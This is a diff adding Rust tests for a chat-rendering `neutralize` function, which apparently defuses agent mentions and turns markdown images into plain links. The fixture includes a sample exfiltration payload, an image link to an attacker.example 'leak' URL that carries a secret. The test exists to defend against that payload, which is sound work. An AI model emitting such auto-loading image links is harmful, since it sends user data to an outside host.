@@ -1137,3 +1137,45 @@ fn empty_and_weird_inputs_give_the_name() {
     assert_eq!(tool_use_line("", &json!({})), "🔧 tool");
     assert_eq!(tool_use_line(" \n", &Value::Null), "🔧 tool");
 }
+
+#[test]
+fn agent_mentions_and_images_are_made_inert_outside_code() {
+    use session_manager::chat::render::neutralize;
+    let text = "Hey @here and @channel, ping @alice (mail bob@example.com).\n\
+                ![x](http://attacker.example/leak?d=secret) and ![y][ref]\n\
+                `@all stays` in code\n```python\n@decorator\n![kept](in code)\n```\nafter @all\n";
+    let out = neutralize(text);
+    for live in ["@here and", "@channel,", "@alice (", "after @all"] {
+        assert!(!out.contains(live), "{live:?} still live in {out:?}");
+    }
+    assert!(
+        out.contains("bob@example.com"),
+        "an address is not a mention"
+    );
+    assert!(out.contains("[x](http://attacker.example/leak?d=secret)"));
+    assert!(
+        !out.contains("![x]") && !out.contains("![y]"),
+        "images become links: {out}"
+    );
+    assert!(out.contains("`@all stays`"), "inline code is left as it is");
+    assert!(
+        out.contains("@decorator\n![kept](in code)\n"),
+        "fenced code is left as it is"
+    );
+    assert_eq!(neutralize(&out), out, "idempotent");
+    let removed: String = out.chars().filter(|&c| c != '\u{2060}').collect();
+    assert_eq!(
+        removed,
+        text.replace("![x]", "[x]").replace("![y]", "[y]"),
+        "nothing else changes"
+    );
+}
+
+proptest! {
+    #[test]
+    fn neutralize_never_panics_and_only_inserts_joiners_or_drops_bangs(text in "\\PC{0,200}") {
+        let out = session_manager::chat::render::neutralize(&text);
+        let back: String = out.chars().filter(|&c| c != '\u{2060}').collect();
+        prop_assert!(back.len() <= text.len());
+    }
+}
